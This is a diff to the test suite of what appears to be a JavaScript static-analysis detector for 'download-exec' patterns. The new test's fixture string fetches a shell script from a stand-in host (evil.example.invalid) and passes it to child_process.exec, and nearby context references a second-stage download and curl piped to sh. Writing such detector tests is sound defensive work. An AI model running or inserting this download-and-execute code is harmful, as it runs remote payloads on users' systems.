@@ -222,6 +222,23 @@ https.get('https://cdn.example.invalid/stage2.js', (res) => {
     ).toContain("download-exec");
   });
 
+  it("catches fetched chunks gathered in callbacks and handed to child_process as the command", () => {
+    const src = `const https = require('https');
+const cp = require('child_process');
+https.get('https://evil.example.invalid/x.sh', (r) => {
+  let b = '';
+  r.on('data', (d) => (b += d));
+  r.on('end', () => cp.exec(b));
+});`;
+    expect(find(src, "download-exec")).toMatchObject({ line: 6 });
+    // a fetched value as an argument of a literal program is not running it
+    expect(
+      rules(
+        `const cp = require('child_process'); fetch(u).then((r) => r.text()).then((t) => cp.execFile('echo', [t]))`,
+      ),
+    ).not.toContain("download-exec");
+  });
+
   it("catches a file downloaded then run, and curl | sh handed to child_process", () => {
     const src = `const fs = require('fs'), https = require('https'), { spawn } = require('child_process');
 const dest = require('os').tmpdir() + '/update.bin';
